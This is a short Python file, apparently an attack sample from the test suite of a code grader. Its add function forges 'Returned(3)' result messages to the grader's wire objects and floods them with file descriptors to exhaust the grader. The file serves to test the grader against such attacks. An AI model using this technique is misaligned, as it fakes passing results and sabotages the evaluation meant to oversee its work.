# Attack: pass file descriptors with an answer, until the grader has no more to open.
import gc
import os

from examiner.messages import Returned
from examiner.wire import Wire


def add(a, b):
    nowhere = os.open("/dev/null", os.O_RDWR)
    for wire in [thing for thing in gc.get_objects() if isinstance(thing, Wire)]:
        for _ in range(200):
            try:
                wire.send(Returned(3, {}, []), fds=(nowhere,) * 50)
            except OSError:
                break
    return 3
